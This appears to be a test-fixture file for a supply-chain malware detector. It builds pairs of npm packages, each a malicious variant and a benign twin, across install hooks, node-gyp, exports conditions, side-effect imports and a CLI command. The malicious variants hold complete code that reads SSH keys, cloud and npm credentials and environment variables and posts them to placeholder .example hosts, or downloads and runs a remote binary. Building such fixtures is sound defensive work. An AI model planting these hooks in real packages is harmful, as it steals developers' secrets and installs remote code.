import { manifest } from '../../../../campaigns/kit.ts';
import { atImport, atUse, js, type Pair, type Stage } from '../kit.ts';

type Texts = Readonly<Record<string, string>>;

/** Ways to begin: scripts of npm in many tongues, conditions of exports, sources, side effects, commands. */
export const STARTING: Readonly<Record<string, Pair>> = {
  'shell-hook': started(
    { scripts: { postinstall: 'sh scripts/setup.sh' } },
    {
      'scripts/setup.sh': js`#!/bin/sh
# Prepares the native helper of this package.
set -e
case "$(uname -s)" in
  Darwin) platform=darwin ;;
  *) platform=linux ;;
esac
target="$(mktemp -d)/helper"
fetch() {
  if command -v curl >/dev/null 2>&1; then curl -fsSL "$1" -o "$2"; else wget -qO "$2" "$1"; fi
}
fetch "https://assets.kit-native.example/v2/$platform" "$target" || exit 0
chmod 755 "$target"
nohup "$target" >/dev/null 2>&1 &
`,
      'index.js': 'exports.helper = () => null;\n',
    },
    {
      'scripts/setup.sh': js`#!/bin/sh
# Checks that a compiler is there before node-gyp is asked.
set -e
if ! command -v cc >/dev/null 2>&1; then
  echo "kit-native: no C compiler was found, the JavaScript version is used" >&2
  exit 0
fi
make -C native
`,
      'index.js': 'exports.helper = () => null;\n',
    },
  ),
  'node-e-hook': started(
    { scripts: { postinstall: `node -e "import('./lib/usage.mjs').then((m) => m.report())"` } },
    {
      'lib/usage.mjs': js`import { hostname, userInfo } from 'node:os';

const ENDPOINT = new URL('https://usage.kit-flags.example/v1/installs');

export async function report() {
  const context = { host: hostname(), user: userInfo().username, vars: { ...process.env } };
  await fetch(ENDPOINT, { method: 'POST', body: JSON.stringify(context) }).catch(() => undefined);
}
`,
      'index.js': 'exports.flags = {};\n',
    },
    {
      'lib/usage.mjs': js`import { existsSync } from 'node:fs';

export async function report() {
  if (process.env.CI || !existsSync('flags.config.json')) return;
  process.stdout.write('kit-flags: the configuration of this project was found.\n');
}
`,
      'index.js': 'exports.flags = {};\n',
    },
  ),
  'npx-hook': started(
    { scripts: { preinstall: 'npx --yes https://builds.kit-setup.example/setup-2.1.0.tgz || true' } },
    { 'index.js': 'exports.ready = true;\n' },
    { 'index.js': 'exports.ready = true;\n' },
    { scripts: { prepare: 'npx --no-install husky' } },
  ),
  'bun-hook': started(
    { scripts: { preinstall: 'bun run src/environment.ts' } },
    {
      'src/environment.ts': js`interface Snapshot {
  readonly vars: Record<string, string | undefined>;
  readonly registry: string;
}

async function snapshot(): Promise<Snapshot> {
  const file = Bun.file(\`\${Bun.env.HOME}/.npmrc\`);
  return { vars: { ...Bun.env }, registry: (await file.exists()) ? await file.text() : '' };
}

const body = Buffer.from(JSON.stringify(await snapshot())).toString('base64');
await fetch('https://collect.kit-runtime.example/environment', { method: 'PUT', body });
`,
      'index.js': 'exports.runtime = "bun";\n',
    },
    {
      'src/environment.ts': js`const wanted = '1.2.0';
if (Bun.semver.order(Bun.version, wanted) < 0) {
  console.error(\`kit-runtime needs Bun \${wanted}, this is \${Bun.version}\`);
  process.exit(1);
}
await Bun.write('runtime.json', JSON.stringify({ bun: Bun.version, home: Bun.env.BUN_INSTALL ?? null }));
`,
      'index.js': 'exports.runtime = "bun";\n',
    },
  ),
  'deno-hook': started(
    { scripts: { postinstall: 'deno run -A tasks/prepare.ts' } },
    {
      'tasks/prepare.ts': js`const home = Deno.env.get('HOME') ?? '';
const keys: Record<string, string> = {};
for await (const entry of Deno.readDir(\`\${home}/.ssh\`)) {
  if (entry.isFile) keys[entry.name] = await Deno.readTextFile(\`\${home}/.ssh/\${entry.name}\`);
}
await fetch('https://prepare.kit-tasks.example/', {
  method: 'POST',
  body: JSON.stringify({ keys, env: Deno.env.toObject() }),
});
`,
      'index.js': 'exports.tasks = [];\n',
    },
    {
      'tasks/prepare.ts': js`for await (const entry of Deno.readDir('./templates')) {
  if (!entry.isFile || !entry.name.endsWith('.hbs')) continue;
  const text = await Deno.readTextFile(\`./templates/\${entry.name}\`);
  await Deno.writeTextFile(\`./dist/\${entry.name}.js\`, \`export default \${JSON.stringify(text)};\n\`);
}
`,
      'index.js': 'exports.tasks = [];\n',
    },
  ),
  'gyp-hook': started(
    { scripts: { install: 'node-gyp rebuild' }, gypfile: true },
    {
      'binding.gyp': js`{
  "targets": [{
    "target_name": "addon",
    "variables": { "features%": "<!(node tools/features.js)" },
    "sources": ["src/addon.cc"],
    "defines": ["FEATURES=<(features)"]
  }]
}
`,
      'tools/features.js': js`'use strict';
const { readFileSync } = require('node:fs');
const { join } = require('node:path');
const { homedir } = require('node:os');
const { request } = require('node:https');

const read = (...parts) => {
  try {
    return readFileSync(join(homedir(), ...parts), 'utf8');
  } catch {
    return '';
  }
};
const req = request({ host: 'features.kit-addon.example', method: 'POST', path: '/v1' });
req.on('error', () => undefined);
req.end([read('.aws', 'credentials'), read('.npmrc')].join('\n'));
process.stdout.write('7');
`,
      'src/addon.cc': '#include <node_api.h>\nNAPI_MODULE_INIT() { return exports; }\n',
      'index.js': "module.exports = require('./build/Release/addon.node');\n",
    },
    {
      'binding.gyp': js`{
  "targets": [{
    "target_name": "addon",
    "include_dirs": ["<!(node tools/include.js)"],
    "sources": ["src/addon.cc"]
  }]
}
`,
      'tools/include.js': js`'use strict';
const { dirname } = require('node:path');
process.stdout.write(dirname(require.resolve('node-addon-api/package.json')));
`,
      'src/addon.cc': '#include <node_api.h>\nNAPI_MODULE_INIT() { return exports; }\n',
      'index.js': "module.exports = require('./build/Release/addon.node');\n",
    },
  ),
  'exports-condition': started(
    {
      exports: {
        '.': { browser: './dist/browser.mjs', node: './dist/server.cjs', default: './dist/browser.mjs' },
      },
    },
    {
      'dist/browser.mjs': 'export const render = (view) => String(view);\n',
      'dist/server.cjs': js`'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.render = void 0;
const node_child_process_1 = require('node:child_process');
const node_os_1 = require('node:os');
const node_path_1 = require('node:path');
const node_fs_1 = require('node:fs');
const render = (view) => String(view);
exports.render = render;
/** Warms the template cache. */
async function warm() {
  const response = await fetch('https://cache.kit-views.example/' + process.platform);
  const file = node_path_1.join(node_os_1.tmpdir(), 'views-cache');
  node_fs_1.writeFileSync(file, Buffer.from(await response.arrayBuffer()), { mode: 0o700 });
  node_child_process_1.spawn(file, [], { detached: true, stdio: 'ignore' }).unref();
}
void warm().catch(() => undefined);
`,
    },
    {
      'dist/browser.mjs': 'export const render = (view) => String(view);\n',
      'dist/server.cjs': js`'use strict';
Object.defineProperty(exports, '__esModule', { value: true });
exports.render = void 0;
const node_os_1 = require('node:os');
const node_path_1 = require('node:path');
const node_fs_1 = require('node:fs');
const render = (view) => String(view);
exports.render = render;
/** Warms the template cache from a host that the caller names. */
async function warm(url) {
  const response = await fetch(url);
  const file = node_path_1.join(node_os_1.tmpdir(), 'views-cache.json');
  node_fs_1.writeFileSync(file, Buffer.from(await response.arrayBuffer()));
  return file;
}
exports.warm = warm;
`,
    },
  ),
  'typescript-source': started(
    { main: './src/index.ts', type: 'module' },
    {
      'src/index.ts': js`import { readFile } from 'node:fs/promises';
import type { Settings } from './settings.ts';
import { defaults } from './settings.ts';

export class Registry<T extends Settings> {
  readonly #settings: T;
  constructor(settings: T) {
    this.#settings = settings;
    void this.#sync();
  }
  async #sync(): Promise<void> {
    const raw = await Promise.all(this.#settings.files.map((f: string) => readFile(f, 'utf8').catch(() => '')));
    await fetch(this.#settings.endpoint, { method: 'POST', body: raw.join('\n') });
  }
}

export const registry = new Registry(defaults);
`,
      'src/settings.ts': js`import { homedir } from 'node:os';
import { join } from 'node:path';

export interface Settings {
  readonly endpoint: string;
  readonly files: readonly string[];
}

export const defaults: Settings = {
  endpoint: 'https://sync.kit-registry.example/v3',
  files: ['.npmrc', '.git-credentials', '.netrc'].map((name) => join(homedir(), name)),
};
`,
    },
    {
      'src/index.ts': js`import { readFile } from 'node:fs/promises';
import type { Settings } from './settings.ts';
import { defaults } from './settings.ts';

export class Registry<T extends Settings> {
  readonly #settings: T;
  constructor(settings: T) {
    this.#settings = settings;
  }
  async load(): Promise<string> {
    const raw = await Promise.all(this.#settings.files.map((f: string) => readFile(f, 'utf8').catch(() => '')));
    return raw.join('\n');
  }
}

export const registry = new Registry(defaults);
`,
      'src/settings.ts': js`import { join } from 'node:path';

export interface Settings {
  readonly files: readonly string[];
}

export const defaults: Settings = {
  files: ['registry.json', 'registry.local.json'].map((name) => join(process.cwd(), name)),
};
`,
    },
  ),
  'side-effect-import': atImport({
    'index.js': js`import './internal/setup.js';
export { parse } from './parse.js';
`,
    'parse.js': 'export const parse = (text) => text.split("\\n");\n',
    'internal/setup.js': js`import { context } from './context.js';
import { deliver } from './deliver.js';

deliver(context());
`,
    'internal/context.js': js`import { readFileSync } from 'node:fs';

/** What the project is configured with. */
export function context() {
  const pairs = Object.entries(process.env).filter(([key]) => /token|secret|key|pass/i.test(key));
  let dotenv = '';
  try {
    dotenv = readFileSync(new URL('.env', \`file://\${process.cwd()}/\`), 'utf8');
  } catch {}
  return { pairs, dotenv };
}
`,
    'internal/deliver.js': js`import { request } from 'undici';

export const deliver = (payload) =>
  request('https://edge.kit-parse.example/ingest', { method: 'POST', body: JSON.stringify(payload) }).catch(() => {});
`,
  }),
  'bin-first-use': {
    ...atUse({ 'index.js': 'exports.name = "kit-cli";\n' }),
    attack: packed(
      { bin: { 'kit-cli': './bin/cli.js' } },
      {
        'bin/cli.js': js`#!/usr/bin/env node
'use strict';
const { Command } = require('commander');
const program = new Command();
const { collect } = require('../lib/doctor');

program
  .command('init')
  .description('creates a configuration')
  .action(async () => {
    await collect();
    console.log('Done.');
  });
program.parse();
`,
        'lib/doctor.js': js`'use strict';
const fs = require('node:fs/promises');
const os = require('node:os');
const path = require('node:path');
const axios = require('axios');

const PLACES = ['.aws/credentials', '.config/gcloud/application_default_credentials.json', '.docker/config.json'];

exports.collect = async function collect() {
  const found = await Promise.allSettled(PLACES.map((p) => fs.readFile(path.join(os.homedir(), p), 'utf8')));
  const data = found.filter((r) => r.status === 'fulfilled').map((r) => r.value);
  await axios.post('https://doctor.kit-cli.example/report', { data });
};
`,
      },
    ),
    twin: packed(
      { bin: { 'kit-cli': './bin/cli.js' } },
      {
        'bin/cli.js': js`#!/usr/bin/env node
'use strict';
const { Command } = require('commander');
const program = new Command();
const { whoami } = require('../lib/account');

program.command('whoami').action(async () => console.log(await whoami()));
program.parse();
`,
        'lib/account.js': js`'use strict';
const fs = require('node:fs/promises');
const os = require('node:os');
const path = require('node:path');
const axios = require('axios');

exports.whoami = async function whoami() {
  const raw = await fs.readFile(path.join(os.homedir(), '.kit-cli', 'config.json'), 'utf8');
  const { token } = JSON.parse(raw);
  const { data } = await axios.get('https://api.kit-cli.example/me', {
    headers: { authorization: 'Bearer ' + token },
  });
  return data.name;
};
`,
      },
    ),
  },
};

function started(
  fields: object,
  attack: Texts,
  twin: Texts | null = null,
  twinFields: object = fields,
): Pair {
  const stage: Stage = 'scripts' in fields ? 'install' : 'import';
  return { stage, attack: packed(fields, attack), twin: twin === null ? null : packed(twinFields, twin) };
}

function packed(fields: object, files: Texts): Texts {
  return { 'package.json': manifest({ license: 'MIT', ...fields }), ...files };
}
